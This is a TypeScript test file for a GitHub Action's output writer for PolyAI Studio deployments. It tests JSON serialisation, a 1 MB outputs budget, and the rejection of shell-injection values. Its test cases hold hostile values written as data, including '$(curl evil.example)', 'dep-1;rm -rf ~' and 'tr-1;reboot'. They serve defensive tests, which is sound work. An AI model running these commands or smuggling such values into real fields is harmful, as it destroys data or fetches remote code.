import { fullDataAfter, OUTPUT_BUDGET_BYTES, writeOutputs } from '../../src/report/outputs.js'
import type { Outputs } from '../../src/report/report.js'
import type { Deployment, Environment } from '../../src/core/types.js'

function record(outputs: Outputs): Array<[string, string]> {
  const calls: Array<[string, string]> = []
  writeOutputs(outputs, (name, value) => calls.push([name, value]))
  return calls
}

const DEP: Deployment = { id: 'dep-2', environment: 'live', version: 'abc1234', createdAt: '2024-01-01T00:00:00Z' }

describe('writeOutputs', () => {
  test('only changed when nothing else is set', () => {
    expect(record({ changed: false })).toEqual([['changed', 'false']])
    expect(record({ changed: true })).toEqual([['changed', 'true']])
  })

  test('every output, plain values as is and structured ones as JSON', () => {
    const outputs: Outputs = {
      changed: true,
      deploymentId: 'dep-2',
      testRunIds: ['t1', 't2'],
      environment: 'live',
      version: 'abc1234',
      deployment: DEP,
      previousDeploymentId: 'dep-1',
      activeDeployments: { sandbox: null, 'pre-release': null, live: DEP },
      configPages: [{ clientEnv: 'live', variables: { a: 1 } }],
      configPage: { clientEnv: 'live', schema: null },
      changedEnvironments: ['sandbox', 'live'],
      testRunResults: [{ id: 't1', status: 'PASSED' }]
    }
    expect(record(outputs)).toEqual([
      ['changed', 'true'],
      ['deploymentId', 'dep-2'],
      ['environment', 'live'],
      ['version', 'abc1234'],
      ['previousDeploymentId', 'dep-1'],
      ['testRunIds', '["t1","t2"]'],
      ['deployment', JSON.stringify(DEP)],
      ['activeDeployments', `{"sandbox":null,"pre-release":null,"live":${JSON.stringify(DEP)}}`],
      ['configPages', '[{"clientEnv":"live","variables":{"a":1}}]'],
      ['configPage', '{"clientEnv":"live","schema":null}'],
      ['changedEnvironments', '["sandbox","live"]'],
      ['testRunResults', '[{"id":"t1","status":"PASSED"}]']
    ])
  })

  test('empty values are written, not skipped', () => {
    expect(record({ changed: false, deploymentId: '', testRunIds: [], changedEnvironments: [] })).toEqual([
      ['changed', 'false'],
      ['deploymentId', ''],
      ['testRunIds', '[]'],
      ['changedEnvironments', '[]']
    ])
  })

  test('JSON outputs keep text with newlines and delimiter-like text on one line, as valid JSON', () => {
    const tricky = 'v1\nother=forged\n<<EOF\nx\nEOF'
    const calls: Array<[string, string]> = []
    expect(
      writeOutputs({ changed: true, configPage: { clientEnv: 'live', note: tricky } }, (n, v) => calls.push([n, v]))
    ).toBeUndefined()
    expect(calls).toEqual([
      ['changed', 'true'],
      ['configPage', JSON.stringify({ clientEnv: 'live', note: tricky })]
    ])
    expect(calls[1]![1]).not.toContain('\n')
    expect(JSON.parse(calls[1]![1])).toEqual({ clientEnv: 'live', note: tricky })
  })

  test.each([
    ['a newline', 'dep-1\necho pwned'],
    ['a command substitution', '$(curl evil.example)'],
    ['a semicolon', 'dep-1;rm -rf ~'],
    ['a backtick', 'dep`id`'],
    ['a space', 'dep 1'],
    ['too many characters', 'a'.repeat(129)]
  ])('an id with %s is never written, nor the JSON carrying it, and the step fails naming it', (_what, id) => {
    const calls: Array<[string, string]> = []
    const failure = writeOutputs(
      {
        changed: true,
        deploymentId: id,
        environment: 'live',
        version: 'v1',
        deployment: { ...DEP, id },
        testRunIds: ['t1', id]
      },
      (n, v) => calls.push([n, v])
    )
    expect(calls).toEqual([
      ['changed', 'true'],
      ['environment', 'live'],
      ['version', 'v1']
    ])
    expect(failure).toContain('cannot be step outputs')
    expect(failure).toContain(`deploymentId ${JSON.stringify(id.length > 80 ? `${id.slice(0, 80)}…` : id)}`)
    expect(failure).toContain('deployment.id')
    expect(failure).toContain('testRunIds[1]')
    expect(failure).not.toContain('\n')
  })

  test('versions and environment names are held to the same rule; ids with . _ : - are fine', () => {
    const calls: Array<[string, string]> = []
    const failure = writeOutputs(
      { changed: false, deploymentId: 'dep_1.2:3-x', version: 'v1 && id', environment: 'live\nx' as Environment },
      (n, v) => calls.push([n, v])
    )
    expect(calls).toEqual([
      ['changed', 'false'],
      ['deploymentId', 'dep_1.2:3-x']
    ])
    expect(failure).toContain('environment "live\\nx"')
    expect(failure).toContain('version "v1 && id"')
  })
})

describe('outputs added since: commentUrl and list-deployments', () => {
  test('a GitHub comment URL is written; one with shell characters is not', () => {
    const calls: Array<[string, string]> = []
    const url = 'https://github.com/acme/agents/pull/7#issuecomment-123456'
    expect(writeOutputs({ changed: false, commentUrl: url }, (n, v) => calls.push([n, v]))).toBeUndefined()
    expect(calls).toContainEqual(['commentUrl', url])
    const bad: Array<[string, string]> = []
    expect(writeOutputs({ changed: false, commentUrl: 'https://x/$(id)' }, (n, v) => bad.push([n, v]))).toContain(
      'commentUrl "https://x/$(id)"'
    )
    expect(bad).toEqual([['changed', 'false']])
  })

  test('the ids and versions in deployments are held to the same rule', () => {
    const calls: Array<[string, string]> = []
    const list = [
      { id: 'dep-1', version: 'v1', environment: 'live' },
      { id: 'dep-2\nx', version: 'v2', environment: 'live' }
    ]
    const failure = writeOutputs(
      { changed: false, deployments: list as unknown as Outputs['deployments'] & object },
      (n, v) => calls.push([n, v])
    )
    expect(failure).toContain('deployments[1].id')
    expect(calls).toEqual([['changed', 'false']])
  })
})

test('a deployment whose environment is the server\'s free text ("Live (EU)") is still written as JSON; the environment output is the stage key', () => {
  const calls: Array<[string, string]> = []
  const deployment = { ...DEP, environment: 'Live (EU)' as Environment }
  expect(writeOutputs({ changed: true, environment: 'live', deployment }, (n, v) => calls.push([n, v]))).toBeUndefined()
  expect(calls).toEqual([
    ['changed', 'true'],
    ['environment', 'live'],
    ['deployment', JSON.stringify(deployment)]
  ])
})

test('the ids and versions inside activeDeployments and the ids inside testRunResults are held to the same rule', () => {
  const active = { sandbox: { ...DEP, id: 'dep-1$(id)' }, 'pre-release': null, live: DEP, 'Live (EU)': { id: 'x y' } }
  const calls: Array<[string, string]> = []
  const failure = writeOutputs(
    { changed: false, activeDeployments: active as unknown as Outputs['activeDeployments'] & object },
    (n, v) => calls.push([n, v])
  )
  expect(failure).toContain('activeDeployments.sandbox.id "dep-1$(id)"')
  expect(failure).not.toContain('x y') // another key's entry is the API's text, as it came
  expect(calls).toEqual([['changed', 'false']])
  const results = [
    {
      id: 'tr-1;reboot',
      status: 'passed',
      result: 'passed',
      passedCount: 1,
      failedCount: 0,
      errorCount: 0,
      testCaseCount: 1
    }
  ]
  const more: Array<[string, string]> = []
  expect(
    writeOutputs({ changed: true, testRunResults: results as Outputs['testRunResults'] & object }, (n, v) =>
      more.push([n, v])
    )
  ).toContain('testRunResults[0].id "tr-1;reboot"')
  expect(more).toEqual([['changed', 'true']])
})

describe('the outputs budget (all outputs of a job share 1 MB)', () => {
  const run = (outputs: Outputs): { calls: Map<string, string>; warnings: string[]; failure: string | undefined } => {
    const calls = new Map<string, string>()
    const warnings: string[] = []
    const failure = writeOutputs(
      outputs,
      (n, v) => void calls.set(n, v),
      (_, m) => void warnings.push(m)
    )
    return { calls, warnings, failure }
  }
  const results = (n: number): unknown[] =>
    Array.from({ length: n }, (_, i) => ({ id: `tr-${i}`, status: 'failed', result: 'failed', detail: 'x'.repeat(60) }))

  test('an output that would pass it is left out whole, with a warning naming it and where its data is; the rest are written', () => {
    const { calls, warnings, failure } = run({
      changed: true,
      deploymentId: 'dep-2',
      testRunIds: ['tr-0', 'tr-1'],
      testRunResults: results(20_000)
    })
    expect(failure).toBeUndefined()
    expect([...calls.keys()]).toEqual(['changed', 'deploymentId', 'testRunIds'])
    expect(warnings).toEqual([
      expect.stringMatching(
        /^The testRunResults output was not written: it is 2,\d{3} KB, and a step's outputs are kept under 900 KB \(GitHub allows 1 MB for all the outputs of a job\)\. The job summary's Test runs table has every run/
      )
    ])
  })

  test('together: the smaller outputs are admitted first, and every one written is whole JSON', () => {
    const pages = [{ clientEnv: 'live', variables: { a: 'p'.repeat(500_000) } }]
    const { calls, warnings } = run({
      changed: false,
      configPages: pages,
      configPage: { clientEnv: 'live', variables: { a: 'q'.repeat(450_000) } },
      changedEnvironments: ['live']
    })
    expect([...calls.keys()]).toEqual(['changed', 'configPage', 'changedEnvironments'])
    for (const value of calls.values()) expect(() => JSON.parse(value)).not.toThrow()
    expect([...calls.values()].reduce((n, v) => n + Buffer.byteLength(v), 0)).toBeLessThanOrEqual(OUTPUT_BUDGET_BYTES)
    expect(warnings).toHaveLength(1)
    expect(warnings[0]).toContain('The configPages output was not written: it is 501 KB')
    expect(warnings[0]).toContain(
      "get-config-page outputs one environment's page, and pull-config writes every page to files a later step can read"
    )
  })

  test('a cut summary table no longer points to an output that was left out', () => {
    expect(fullDataAfter('the testRunResults output', new Set(['testRunResults']))).toBe(
      'PolyAI Studio (the testRunResults output was too large to write, and the testRunIds output lists every run)'
    )
    expect(fullDataAfter('the testRunResults output', new Set(['testRunResults', 'testRunIds']))).toBe(
      'PolyAI Studio (the testRunResults output was too large to write)'
    )
    expect(fullDataAfter('the testRunResults output', new Set(['configPages']))).toBe('the testRunResults output')
  })

  test('under the budget nothing is left out', () => {
    expect(run({ changed: true, testRunResults: results(100) }).warnings).toEqual([])
  })
})
